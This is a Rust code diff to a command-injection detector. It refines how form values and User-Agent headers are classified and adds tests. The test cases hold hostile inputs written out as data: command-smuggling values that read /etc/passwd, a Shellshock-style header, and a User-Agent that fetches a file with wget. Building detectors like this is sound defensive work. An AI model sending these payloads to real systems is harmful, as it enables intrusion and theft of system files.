@@ -368,12 +368,10 @@ fn classify(w: &[u8]) -> Option<bool> {
 }
 
 pub fn check(t: &Target<'_>) -> Option<Hit> {
-    // A generated password (`cP$J_%$F9e+2`) is one shell word whatever its
-    // letters spell; only substitutions would run in it.
-    if t.generated_secret() && !t.norm.windows(2).any(|w| w == b"$(") && !t.norm.contains(&b'`') {
+    let mut h = check_value(t)?;
+    if t.kind == Kind::Header && product_comment_token(t.norm, h.at) {
         return None;
     }
-    let mut h = check_value(t)?;
     // A command shown inside a closed Markdown code fence in a post
     // ("Try this: ```sh\ncargo bench -p x\n```"): the fence itself would
     // be an unterminated substitution to a shell, so nothing in it runs.
@@ -383,6 +381,35 @@ pub fn check(t: &Target<'_>) -> Option<Hit> {
         h.reason.to_mut().push_str(" (inside a Markdown code block)");
     }
     Some(h)
+}
+
+/// `Mozilla/5.0 (… ARM; Touch; NOKIA)`, `(compatible; Embedly/0.2; snap; +http://…)`:
+/// in a header made of products and comments (RFC 9110's User-Agent and
+/// Server grammar), a bare word between `;` inside a comment is a device or
+/// product name. A command there has arguments, a substitution or a pipe,
+/// which the word check before this one has already read.
+fn product_comment_token(s: &[u8], at: usize) -> bool {
+    let product = s.iter().take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.')).count();
+    if product == 0 || s.get(product) != Some(&b'/') {
+        return false;
+    }
+    let Some(at) = (at < s.len()).then_some(at) else { return false };
+    let depth = s[..at].iter().fold(0i32, |d, &b| d + i32::from(b == b'(') - i32::from(b == b')'));
+    if depth <= 0 {
+        return false;
+    }
+    // The word the finding points at, from a separator or from the word.
+    let mut a = at;
+    while a < s.len() && matches!(s[a], b';' | b' ') {
+        a += 1;
+    }
+    let mut e = a;
+    while e < s.len() && (s[e].is_ascii_alphanumeric() || matches!(s[e], b'-' | b'_' | b'.')) {
+        e += 1;
+    }
+    let before = s[..a].iter().rev().find(|&&b| b != b' ');
+    let after = s[e..].iter().find(|&&b| b != b' ');
+    e > a && matches!(before, Some(b';' | b'(')) && matches!(after, None | Some(b';' | b')'))
 }
 
 fn inside_fence(s: &[u8], at: usize) -> bool {
@@ -474,6 +501,7 @@ fn check_value(t: &Target<'_>) -> Option<Hit> {
     let mut i = 0;
     let mut best: Option<Hit> = None;
     let mut seps: Option<Vec<u32>> = None;
+    let first_brace = memchr::memchr(b'{', s);
     // Bytes that can open a separator: the rest are skipped in a tight
     // loop (this runs over every byte of every value with a separator).
     const fn opener_table() -> [bool; 256] {
@@ -541,8 +569,13 @@ fn check_value(t: &Target<'_>) -> Option<Hit> {
             {
                 let next = s.get(end).copied();
                 // A command word followed by an argument, a separator, or nothing.
+                // `}` and `,` end a word only inside a group or brace
+                // expansion (`{ ls;}`, `{ls,-la}`); `;ls}` is the word `ls}`.
+                let grouped = first_brace.is_some_and(|b| b < word_start);
                 let shaped = next.is_none_or(|n| {
-                    n.is_ascii_whitespace() || matches!(n, b';' | b'|' | b'&' | b'`' | b')' | b'<' | b'>' | b'$' | b'}' | b',')
+                    n.is_ascii_whitespace()
+                        || matches!(n, b';' | b'|' | b'&' | b'`' | b')' | b'<' | b'>' | b'$')
+                        || grouped && matches!(n, b'}' | b',')
                 });
                 // "I typed `ls` and nothing", "Run with `python -I` to
                 // regenerate": a code span (Markdown, Sphinx) in text. The
@@ -603,15 +636,55 @@ mod tests {
     }
 
     #[test]
-    fn leaves_generated_passwords_alone() {
-        let pw = |key: &str, v: &str| crate::testutil::confidence_at(check, haetae_model::Source::Form, Kind::Value, key, v) == Some(High);
-        assert!(!pw("mb_password", "cP$J_%$F9e+2"));
-        assert!(!pw("password", "w$y],N(KdpX%H#6T"));
-        assert!(pw("password", "x; cat /etc/passwd"));
-        assert!(pw("password", "$(id)"));
-        assert!(pw("password", "Ab1;$(whoami)"));
-        assert!(pw("password", "|id"));
-        assert!(pw("comment", "x;cat /etc/passwd"));
+    fn reads_a_value_the_same_whatever_its_parameter_is_called() {
+        let at = |key: &str, v: &str| crate::testutil::confidence_at(check, haetae_model::Source::Form, Kind::Value, key, v) == Some(High);
+        for key in ["password", "mb_password", "comment"] {
+            // A program's name glued to what no command line has after it
+            // is one longer word, whatever the field.
+            for b in ["cP$J_%$F9e+2", "w$y],N(KdpX%H#6T", "rmt&%SL:N}eiM)", "n/W*?j$H.jZ,_9m", "Wc9;Wbu:ePLP", "?qV.Se;LS}"] {
+                assert!(!at(key, b), "false positive in {key}: {b}");
+            }
+            for a in [
+                "x; cat /etc/passwd",
+                "$(id)",
+                "Ab1;$(whoami)",
+                "|id",
+                "Secr3t;cat${IFS}/etc/passwd",
+                "cat${IFS}/etc/passwd",
+                "whoami;0'0'",
+            ] {
+                assert!(at(key, a), "missed in {key}: {a}");
+            }
+        }
+    }
+
+    #[test]
+    fn an_assignment_is_not_the_program_it_is_named_after() {
+        for b in [" ent=Electronics; cp=Y; chan=org;", "kvpage=index;alias=abw_top;grp=511", "a=1&fc=24&u_his=3"] {
+            assert!(!hit(b), "false positive: {b}");
+        }
+        for a in ["x; cp /etc/passwd /tmp/x", "a; alias ls=id", "a=1&&fc -e vi"] {
+            assert!(hit(a), "missed: {a}");
+        }
+    }
+
+    #[test]
+    fn a_device_name_in_a_user_agent_comment_is_not_a_command() {
+        let ua = |v: &str| crate::testutil::confidence_at(check, haetae_model::Source::Header, Kind::Header, "user-agent", v) == Some(High);
+        for b in [
+            "Mozilla/5.0 (compatible; MSIE 10.0; Windows Phone 8.0; Trident/6.0; IEMobile/10.0; ARM; Touch; NOKIA; Lumia 920)",
+            "Mozilla/5.0 (compatible; Embedly/0.2; snap; +http://support.embed.ly/)",
+        ] {
+            assert!(!ua(b), "false positive: {b}");
+        }
+        for a in [
+            "Mozilla/5.0 (X11; wget http://10.0.0.1/x -O /tmp/x)",
+            "Mozilla/5.0 (X; $(id))",
+            "() { :; }; /bin/cat /etc/passwd",
+            ";touch /tmp/x",
+        ] {
+            assert!(ua(a), "missed: {a}");
+        }
     }
 
     #[test]
